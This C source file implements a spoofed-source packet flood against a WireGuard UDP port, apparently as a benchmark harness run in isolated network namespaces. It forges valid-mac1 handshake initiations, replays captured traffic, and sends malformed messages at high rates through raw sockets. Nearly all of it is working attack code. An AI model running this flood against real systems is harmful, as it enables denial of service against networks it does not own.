/*
 * A flood against a WireGuard port: forged packets from many source addresses and ports, made beforehand and sent as
 * Ethernet frames, so that 100,000 a second take little of the CPUs that attacker and attacked share.
 * scripts/bench_flood.sh runs it, in network namespaces of its own. IPv4 only; root.
 *
 *   gcc -O2 -o flood flood.c noise.c blake2s.c common.c -lcrypto
 *   flood record --if DEVICE --port PORT --count N FILE
 *        the transport messages to UDP port PORT that DEVICE receives, until there are N of them or SIGTERM comes
 *   flood send --if DEVICE --to ADDRESS --mac MAC --port PORT --key PUBLIC --kind KIND --rate N --seconds S
 *        [--sources PREFIX] [--replay FILE] [--seed N]
 *        --mac is the next hop's; --key the public key of the attacked; without --sources 100.64.0.0/10
 *
 * The kinds, and `mix`, one of each in turn:
 *
 *   initiations  a valid mac1, which only needs the public key, and random bytes before it
 *   bad-mac      the same with a random mac1
 *   replay       recorded messages, every other from where it came, the rest from anywhere
 *   garbage      random bytes of 0 to 1400; a valid type with any length; data of no session; responses to no
 *                initiation, some with a valid mac1; cookie replies
 *
 * Says "flooding" when it begins and what it sent when it ends. What it could not send in time is missed, not sent
 * later.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>

#include "noise.h"

#define ETH 14
#define IP 20
#define UDP 8
#define HEADERS (ETH + IP + UDP)
#define MAX_MESSAGE 1472
#define KINDS 4
#define INITIATIONS 65536  // different ones; then they come again, from other sources
#define OTHERS 4096
#define TTL 64

struct frame {
  u16 length, fixed_source;
  u32 ip_sum, udp_sum;  // without source address and port
  u8* bytes;
};
struct kind {
  const char* name;
  int count, next;
  u64 sent;
  struct frame* frames;
};
// What `record` writes before each message.
struct recorded {
  u32 source;
  u16 port, length;  // all in host order
};

static struct kind kinds[KINDS] = {
    {.name = "initiations"}, {.name = "bad-mac"}, {.name = "replay"}, {.name = "garbage"}};
static struct responder attacked;
static u8 headers[HEADERS];
static u64 state;
static volatile sig_atomic_t interrupted;

// ---- frames

static u32 sum16(u32 sum, const u8* bytes, size_t length) {
  for (size_t i = 0; i + 1 < length; i += 2) sum += bytes[i] << 8 | bytes[i + 1];
  return length % 2 ? sum + (bytes[length - 1] << 8) : sum;
}

static u16 complement(u32 sum) {
  sum = (sum & 0xffff) + (sum >> 16);
  return ~((sum & 0xffff) + (sum >> 16));
}

static void put16(u8* at, u16 value) {
  at[0] = value >> 8;
  at[1] = value;
}

static void put32(u8* at, u32 value) {
  put16(at, value >> 16);
  put16(at + 2, value);
}

static void set_source(struct frame* f, u32 address, u16 port) {
  u8 *ip = f->bytes + ETH, *udp = ip + IP;
  u32 sum = (address >> 16) + (address & 0xffff);
  u16 udp_checksum = complement(f->udp_sum + sum + port);
  put32(ip + 12, address);
  put16(ip + 10, complement(f->ip_sum + sum));
  put16(udp, port);
  put16(udp + 6, udp_checksum ? udp_checksum : 0xffff);
}

// add_frame: of a message to the attacked; its source is set later.
static struct frame* add_frame(struct kind* k, const u8* message, size_t length) {
  struct frame* f = &k->frames[k->count++];
  u8 *ip, *udp;
  f->length = HEADERS + length;
  f->bytes = malloc(f->length);
  if (!f->bytes) die("no memory");
  memcpy(f->bytes, headers, HEADERS);
  memcpy(f->bytes + HEADERS, message, length);
  ip = f->bytes + ETH;
  udp = ip + IP;
  put16(ip + 2, IP + UDP + length);
  put16(udp + 4, UDP + length);
  f->ip_sum = sum16(0, ip, IP);
  // The pseudo header: both addresses, the protocol, the length.
  f->udp_sum = sum16(sum16(0, ip + 12, 8) + IPPROTO_UDP + UDP + length, udp, UDP + length);
  f->udp_sum = (f->udp_sum & 0xffff) + (f->udp_sum >> 16);
  return f;
}

static void prepare(struct kind* k, int most) {
  k->frames = calloc(most, sizeof *k->frames);
  if (!k->frames) die("no memory");
}

static void put_type(u8* message, u32 type) { memcpy(message, &type, 4); }

static void make_initiations(struct kind* k, int count, int valid) {
  u8 message[INITIATION_LENGTH];
  prepare(k, count);
  while (k->count < count) {
    draw_bytes(&state, message, sizeof message);
    put_type(message, INITIATION);
    memset(message + MAC2, 0, MAC_LENGTH);
    if (valid) write_mac1(message, sizeof message, &attacked);
    add_frame(k, message, sizeof message);
  }
}

static void make_garbage(struct kind* k) {
  u8 message[MAX_MESSAGE];
  prepare(k, OTHERS);
  while (k->count < OTHERS) {
    size_t length = draw(&state) % 1401;
    draw_bytes(&state, message, sizeof message);
    switch (k->count % 5) {
      case 0: break;
      case 1: put_type(message, 1 + draw(&state) % 4); break;
      case 2:
        put_type(message, DATA);
        length = KEEPALIVE_LENGTH + 16 * (length / 16);
        break;
      case 3:
        put_type(message, RESPONSE);
        length = RESPONSE_LENGTH;
        if (k->count % 2) write_mac1(message, length, &attacked);
        break;
      default: put_type(message, COOKIE_REPLY); length = COOKIE_REPLY_LENGTH;
    }
    add_frame(k, message, length);
  }
}

static void read_recorded(struct kind* k, const char* file) {
  u8 message[MAX_MESSAGE];
  struct recorded r;
  FILE* in = file ? fopen(file, "r") : NULL;
  if (!in) die("--replay %s", file ? file : "is wanted");
  prepare(k, OTHERS);
  while (k->count < OTHERS && fread(&r, sizeof r, 1, in) == 1) {
    if (r.length > sizeof message || fread(message, r.length, 1, in) != 1) die("%s: cut off", file);
    struct frame* f = add_frame(k, message, r.length);
    f->fixed_source = k->count % 2;
    if (f->fixed_source) set_source(f, r.source, r.port);
  }
  fclose(in);
  errno = 0;
  if (!k->count) die("%s: nothing was recorded", file);
}

// ---- recording

static void stop(int signal) {
  (void)signal;
  interrupted = 1;
}

static int packet_socket(const char* device, int protocol, struct sockaddr_ll* address) {
  int s = socket(AF_PACKET, SOCK_RAW, htons(protocol));
  if (s < 0) die("AF_PACKET");
  *address = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_protocol = htons(protocol)};
  address->sll_ifindex = if_nametoindex(device);
  if (!address->sll_ifindex) die("%s", device);
  if (bind(s, (void*)address, sizeof *address) < 0) die("bind to %s", device);
  return s;
}

static int record(const char* device, u16 port, u32 wanted, const char* file) {
  u8 frame[2048];
  struct sockaddr_ll address, from;
  u32 count = 0;
  struct sigaction on_stop = {.sa_handler = stop};  // without SA_RESTART: it ends the receive
  FILE* out = fopen(file, "w");
  if (!out) die("%s", file);
  sigaction(SIGTERM, &on_stop, NULL);
  int s = packet_socket(device, ETH_P_IP, &address);
  printf("recording\n");
  fflush(stdout);
  while (!interrupted && count < wanted) {
    socklen_t from_length = sizeof from;
    // MSG_TRUNC: the true length. Datagrams that the sender's kernel left joined (UDP_SEGMENT) do not fit; the rest
    // does.
    ssize_t n = recvfrom(s, frame, sizeof frame, MSG_TRUNC, (void*)&from, &from_length);
    const u8 *ip = frame + ETH, *udp = ip + IP;
    if (n < HEADERS || n > HEADERS + MAX_MESSAGE || from.sll_pkttype != PACKET_HOST || ip[0] != 0x45 ||
        ip[9] != IPPROTO_UDP || (udp[2] << 8 | udp[3]) != port)
      continue;
    struct recorded r = {(u32)ip[12] << 24 | ip[13] << 16 | ip[14] << 8 | ip[15], udp[0] << 8 | udp[1],
                         (udp[4] << 8 | udp[5]) - UDP};
    if (r.length > n - HEADERS || type_of(udp + UDP, r.length) != DATA) continue;
    if (fwrite(&r, sizeof r, 1, out) != 1 || fwrite(udp + UDP, r.length, 1, out) != 1) die("%s", file);
    count++;
  }
  if (fclose(out)) die("%s", file);
  printf("recorded %u\n", count);
  return 0;
}

// ---- sending

static void write_headers(const char* device, const u8 mac[6], u32 to, u16 port) {
  struct ifreq request = {0};
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  strncpy(request.ifr_name, device, IFNAMSIZ - 1);
  if (s < 0 || ioctl(s, SIOCGIFHWADDR, &request) < 0) die("%s", device);
  memcpy(headers, mac, 6);
  memcpy(headers + 6, request.ifr_hwaddr.sa_data, 6);
  put16(headers + 12, ETH_P_IP);
  headers[ETH] = 0x45;
  put16(headers + ETH + 6, 0x4000);  // do not fragment
  headers[ETH + 8] = TTL;
  headers[ETH + 9] = IPPROTO_UDP;
  put32(headers + ETH + 16, to);
  put16(headers + ETH + IP + 2, port);
}

// flood: used[] are the kinds to send in turn. Returns what was missed.
static u64 flood(int s, struct sockaddr_ll* to, struct kind** used, int used_count, u32 base, u32 mask, u32 rate,
                 u32 seconds, u64* refused) {
  struct mmsghdr messages[BATCH] = {0};
  struct iovec parts[BATCH];
  struct kind* of[BATCH];
  struct schedule schedule = {.start_ns = now_ns(), .rate = rate};
  u64 turn = 0, end = schedule.start_ns + seconds * SECOND_NS;
  for (int i = 0; i < BATCH; i++) {
    messages[i].msg_hdr =
        (struct msghdr){.msg_name = to, .msg_namelen = sizeof *to, .msg_iov = &parts[i], .msg_iovlen = 1};
  }
  for (u64 now; !interrupted && (now = now_ns()) < end;) {
    int count = due(&schedule, now);
    for (int i = 0; i < count; i++) {
      struct kind* k = of[i] = used[turn++ % used_count];
      struct frame* f = &k->frames[k->next++ % k->count];
      u64 random = draw(&state);
      if (!f->fixed_source) set_source(f, base | ((u32)random & mask), 1024 + (random >> 32) % 64512);
      parts[i] = (struct iovec){f->bytes, f->length};
    }
    for (int done = 0; done < count;) {
      int sent = sendmmsg(s, messages + done, count - done, 0);
      if (sent < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) die("sendmmsg");
      if (sent <= 0) {
        ++*refused;
        done++;
        continue;
      }
      for (int i = 0; i < sent; i++) of[done + i]->sent++;
      done += sent;
    }
    sleep_until(next_due(&schedule));
  }
  return schedule.missed;
}

static void parse_prefix(const char* text, u32* base, u32* mask) {
  char address[32];
  int length;
  errno = 0;
  if (sscanf(text, "%31[0-9.]/%d", address, &length) != 2 || length < 1 || length > 32) die("%s: not a prefix", text);
  *mask = length == 32 ? 0 : 0xffffffffu >> length;
  *base = ipv4(address) & ~*mask;
}

int main(int argc, char** argv) {
  static const struct option names[] = {{"if", 1, 0, 'i'},
                                        {"to", 1, 0, 't'},
                                        {"mac", 1, 0, 'm'},
                                        {"port", 1, 0, 'p'},
                                        {"key", 1, 0, 'k'},
                                        {"kind", 1, 0, 'x'},
                                        {"rate", 1, 0, 'r'},
                                        {"seconds", 1, 0, 'd'},
                                        {"sources", 1, 0, 's'},
                                        {"count", 1, 0, 'c'},
                                        {"replay", 1, 0, 'f'},
                                        {"seed", 1, 0, 'e'},
                                        {0}};
  const char *device = NULL, *kind = "mix", *sources = "100.64.0.0/10", *replay = NULL, *what = argc > 1 ? argv[1] : "";
  u8 mac[6] = {0}, public[32] = {0};
  u32 to = 0, port = 0, rate = 100000, seconds = 10, count = OTHERS, base, mask;
  u64 seed = now_ns(), refused = 0, missed, start;
  struct kind* used[KINDS];
  struct sockaddr_ll address;
  int used_count = 0, one = 1;
  optind = 2;
  for (int c; argc > 1 && (c = getopt_long(argc, argv, "", names, NULL)) != -1;) switch (c) {
      case 'i': device = optarg; break;
      case 't': to = ipv4(optarg); break;
      case 'm':
        if (sscanf(optarg, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
          return 2;
        break;
      case 'p': port = number(optarg, 1, 65535); break;
      case 'k': base64_key(optarg, public); break;
      case 'x': kind = optarg; break;
      case 'r': rate = number(optarg, BATCH, 10000000); break;
      case 'd': seconds = number(optarg, 1, 3600); break;
      case 's': sources = optarg; break;
      case 'c': count = number(optarg, 1, OTHERS); break;
      case 'f': replay = optarg; break;
      case 'e': seed = number(optarg, 1, ~0ull); break;
      default: return 2;
    }
  errno = 0;
  if (!strcmp(what, "record") && device && port && optind + 1 == argc) return record(device, port, count, argv[optind]);
  if (strcmp(what, "send") || !device || !port || !to || optind != argc)
    die("flood record|send: see the head of flood.c");
  state = seed;
  parse_prefix(sources, &base, &mask);
  responder_of(&attacked, public);
  write_headers(device, mac, to, port);
  for (int i = 0; i < KINDS; i++)
    if (!strcmp(kind, "mix") || !strcmp(kind, kinds[i].name)) used[used_count++] = &kinds[i];
  if (!used_count) die("--kind %s: mix, initiations, bad-mac, replay or garbage", kind);
  for (int i = 0; i < used_count; i++) {
    if (used[i] == &kinds[0]) make_initiations(used[i], INITIATIONS, 1);
    if (used[i] == &kinds[1]) make_initiations(used[i], OTHERS, 0);
    if (used[i] == &kinds[2]) read_recorded(used[i], replay);
    if (used[i] == &kinds[3]) make_garbage(used[i]);
  }
  int s = packet_socket(device, 0, &address);
  address.sll_protocol = htons(ETH_P_IP);
  address.sll_halen = 6;
  memcpy(address.sll_addr, mac, 6);
  setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
  prctl(PR_SET_TIMERSLACK, 1);
  signal(SIGTERM, stop);
  printf("flooding, %s, %u/s, seed %lu\n", kind, rate, seed);
  fflush(stdout);
  start = now_ns();
  missed = flood(s, &address, used, used_count, base, mask, rate, seconds, &refused);
  double took = (now_ns() - start) / (double)SECOND_NS;
  struct rusage usage;
  getrusage(RUSAGE_SELF, &usage);
  u64 sent = 0;
  for (int i = 0; i < KINDS; i++) sent += kinds[i].sent;
  printf("sent %lu in %.2f s, %.0f/s, missed %lu, refused %lu, cpu %.2f s", sent, took, sent / took, missed, refused,
         usage.ru_utime.tv_sec + usage.ru_stime.tv_sec + (usage.ru_utime.tv_usec + usage.ru_stime.tv_usec) / 1e6);
  for (int i = 0; i < used_count; i++) printf(", %s %lu", used[i]->name, used[i]->sent);
  printf("\n");
  return 0;
}
